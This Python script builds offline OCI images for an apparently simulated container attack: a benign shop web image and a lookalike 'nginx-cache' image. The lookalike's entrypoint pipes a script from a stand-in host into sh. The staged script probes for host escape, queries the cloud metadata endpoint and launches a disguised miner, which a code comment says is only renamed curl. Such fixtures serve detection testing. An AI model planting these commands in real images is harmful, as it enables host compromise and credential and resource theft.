"""Turns a few programs of this machine into the two OCI image layouts of the recording, without any network.

Usage: images.py LAYOUTS FILES. Writes LAYOUTS/web and LAYOUTS/nginx-cache (an index of two platforms each) and, into
FILES, what the outside server hands out. Source of the formats: OCI image-spec `image-index.md`, `manifest.md`,
`config.md` and `image-layout.md`; `Healthcheck` is Docker's addition to the config.
"""

import gzip
import hashlib
import io
import json
import re
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

CREATED = "2026-01-01T00:00:00Z"
MEDIA = "application/vnd.oci.image"
APPLETS = ("cat", "chmod", "chroot", "httpd", "id", "ls", "sleep")
PATH = ["PATH=/usr/local/bin:/usr/bin:/bin"]

WEB = b"""#!/bin/sh
curl -fsS -o /srv/prices.json http://10.20.0.40:8000/prices.json
exec httpd -f -p 8080 -h /srv
"""
LOOKALIKE = b"""#!/bin/sh
curl -fsSL http://203.0.113.7/cache/init.sh | sh
exec sleep 600
"""
STAGE = b"""#!/bin/sh
id
chroot /host /usr/bin/id
curl -s -m 2 http://169.254.169.254/latest/meta-data/
curl -fsSL -o /tmp/.kcache http://203.0.113.7/cache/kcache
chmod 755 /tmp/.kcache
/tmp/.kcache -s -m 20 -u tw-example-wallet.worker7:x -d '{"id": 1, "method": "login"}' http://198.51.100.23:3333/json_rpc
"""


def program(name: str) -> Path:
    """The path of an installed program; ends the script with one sentence where it is missing."""
    found = shutil.which(name)
    if found is None:
        sys.exit(f"{name} is not installed")
    return Path(found).resolve()


def libraries(binary: Path) -> list[Path]:
    """The shared libraries and the loader that `ldd` lists for a binary; none for a static one."""
    listed = subprocess.run(["/usr/bin/ldd", str(binary)], capture_output=True, text=True, check=False)  # noqa: S603 - our own path
    return [Path(path) for path in re.findall(r"(/\S+) \(0x", listed.stdout)]


def layer(files: dict[str, bytes | str]) -> bytes:
    """A layer tar that is the same whenever it is made: contents as bytes, symbolic links as their target's text."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        folders = {str(parent) for name in files for parent in Path(name).parents} - {"."}
        for name in sorted(folders | {"proc", "sys", "dev", "tmp"}):
            entry = tarfile.TarInfo(name)
            entry.type, entry.mode = tarfile.DIRTYPE, 0o755
            archive.addfile(entry)
        for name, content in sorted(files.items()):
            entry = tarfile.TarInfo(name)
            entry.mode = 0o755
            if isinstance(content, str):
                entry.type, entry.linkname = tarfile.SYMTYPE, content
                archive.addfile(entry)
            else:
                entry.size = len(content)
                archive.addfile(entry, io.BytesIO(content))
    return buffer.getvalue()


def blob(layout: Path, media_type: str, data: bytes) -> dict[str, Any]:
    """Write one blob of a layout and give back its descriptor."""
    encoded = hashlib.sha256(data).hexdigest()
    target = layout / "blobs" / "sha256" / encoded
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data)
    return {"mediaType": media_type, "digest": f"sha256:{encoded}", "size": len(data)}


def image(layout: Path, tag: str, layers: list[bytes], config: dict[str, Any]) -> None:
    """Write a layout whose one index lists the same layers for amd64 and arm64."""
    manifests = []
    for architecture in ("amd64", "arm64"):
        diff_ids = [f"sha256:{hashlib.sha256(tar).hexdigest()}" for tar in layers]
        settings = {
            "created": CREATED,
            "architecture": architecture,
            "os": "linux",
            "config": config,
            "rootfs": {"type": "layers", "diff_ids": diff_ids},
            "history": [{"created": CREATED, "created_by": f"layer {number}"} for number in range(len(layers))],
        }
        manifest = {
            "schemaVersion": 2,
            "mediaType": f"{MEDIA}.manifest.v1+json",
            "config": blob(layout, f"{MEDIA}.config.v1+json", json.dumps(settings).encode()),
            "layers": [blob(layout, f"{MEDIA}.layer.v1.tar+gzip", gzip.compress(tar, 6, mtime=0)) for tar in layers],
        }
        descriptor = blob(layout, f"{MEDIA}.manifest.v1+json", json.dumps(manifest).encode())
        manifests.append(descriptor | {"platform": {"architecture": architecture, "os": "linux"}})
    index = {"schemaVersion": 2, "mediaType": f"{MEDIA}.index.v1+json", "manifests": manifests}
    top = blob(layout, f"{MEDIA}.index.v1+json", json.dumps(index).encode())
    top["annotations"] = {"org.opencontainers.image.ref.name": tag}
    (layout / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [top]}))
    (layout / "oci-layout").write_text('{"imageLayoutVersion": "1.0.0"}')


def main(layouts: Path, served: Path) -> None:
    """Write both layouts and the files that the outside server hands out."""
    # A shell that runs every command as a process of its own; busybox's own shell need not.
    busybox, curl, shell = program("busybox"), program("curl"), program("dash")
    tools: dict[str, bytes | str] = {
        "bin/busybox": busybox.read_bytes(),
        "bin/sh": shell.read_bytes(),
        "usr/bin/curl": curl.read_bytes(),
        "etc/passwd": b"root:x:0:0:root:/root:/bin/sh\n",
    }
    tools |= {f"bin/{applet}": "busybox" for applet in APPLETS}
    tools |= {
        str(path).lstrip("/"): path.read_bytes() for binary in (busybox, curl, shell) for path in libraries(binary)
    }
    base = layer(tools)
    web = layer({"usr/local/bin/shop-web": WEB, "srv/healthz": b"ok\n"})
    image(
        layouts / "web",
        "1.4",
        [base, web],
        {
            "Env": PATH,
            "Cmd": ["/usr/local/bin/shop-web"],
            "ExposedPorts": {"8080/tcp": {}},
            "Healthcheck": {
                "Test": ["CMD", "curl", "-fsS", "-m", "2", "-o", "/dev/null", "http://127.0.0.1:8080/healthz"],
                "Interval": 5_000_000_000,
                "Timeout": 3_000_000_000,
            },
            "Labels": {"org.opencontainers.image.source": "https://git.corp.example/shop/web"},
        },
    )
    image(
        layouts / "nginx-cache",
        "latest",
        [base, layer({"usr/local/bin/nginx-cache": LOOKALIKE})],
        {"Env": PATH, "Cmd": ["/usr/local/bin/nginx-cache"], "Labels": {"maintainer": "NGINX cache maintainers"}},
    )
    (served / "cache").mkdir(parents=True, exist_ok=True)
    (served / "cache" / "init.sh").write_bytes(STAGE)
    # The "miner" is curl under another name: a file that no layer of the image holds, and harmless.
    shutil.copyfile(curl, served / "cache" / "kcache")
    (served / "prices.json").write_text('{"tea": 4, "biscuit": 2}\n')


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]))
